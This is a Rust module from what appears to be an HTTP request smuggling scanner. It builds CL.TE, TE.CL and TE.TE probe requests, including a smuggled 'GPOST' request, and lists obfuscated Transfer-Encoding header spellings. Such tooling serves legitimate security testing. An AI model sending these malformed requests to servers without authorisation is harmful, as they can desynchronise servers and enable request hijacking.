// File: payload.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

use serde::{Deserialize, Serialize};
use std::fmt;

/// The delimiter-confusion class a probe targets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum SmugglingType {
    ClTe,
    TeCl,
    TeTe,
}

impl fmt::Display for SmugglingType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let label = match self {
            SmugglingType::ClTe => "CL.TE",
            SmugglingType::TeCl => "TE.CL",
            SmugglingType::TeTe => "TE.TE",
        };
        f.write_str(label)
    }
}

/// Obfuscated spellings of the Transfer-Encoding header, probed in this
/// exact order. A strict front-end parser and a lenient back-end parser may
/// disagree on which of these counts as a chunked declaration.
pub const TE_OBFUSCATIONS: [&str; 7] = [
    "Transfer-Encoding: chunked\r\nTransfer-encoding: x",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding:",
    "Transfer-Encoding:\tchunked",
    "X: X\r\nTransfer-Encoding: chunked",
];

/// CL.TE probe: the front-end forwards 6 body bytes per Content-Length, a
/// Transfer-Encoding back-end terminates at `0\r\n\r\n` and stalls on the
/// dangling `G` while waiting for the rest of a next request.
pub fn clte_probe(host: &str) -> String {
    format!(
        "POST / HTTP/1.1\r\n\
         Host: {}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 6\r\n\
         Transfer-Encoding: chunked\r\n\
         \r\n\
         0\r\n\
         \r\n\
         G",
        host
    )
}

/// TE.CL probe: a Transfer-Encoding front-end forwards the whole chunked
/// body, a Content-Length back-end consumes only 4 bytes and buffers the
/// smuggled GPOST pseudo-request.
pub fn tecl_probe(host: &str) -> String {
    format!(
        "POST / HTTP/1.1\r\n\
         Host: {}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 4\r\n\
         Transfer-Encoding: chunked\r\n\
         \r\n\
         5c\r\n\
         GPOST / HTTP/1.1\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 15\r\n\
         \r\n\
         x=1\r\n\
         0\r\n\
         \r\n",
        host
    )
}

/// TE.TE probe: the TE.CL body behind one obfuscated Transfer-Encoding
/// spelling from [`TE_OBFUSCATIONS`].
pub fn tete_probe(host: &str, obfuscation: &str) -> String {
    format!(
        "POST / HTTP/1.1\r\n\
         Host: {}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 4\r\n\
         {}\r\n\
         \r\n\
         5c\r\n\
         GPOST / HTTP/1.1\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 15\r\n\
         \r\n\
         x=1\r\n\
         0\r\n\
         \r\n",
        host, obfuscation
    )
}

/// Unambiguous request used as the timing control for the same target.
pub fn baseline_probe(host: &str) -> String {
    format!(
        "POST / HTTP/1.1\r\n\
         Host: {}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 0\r\n\
         \r\n",
        host
    )
}
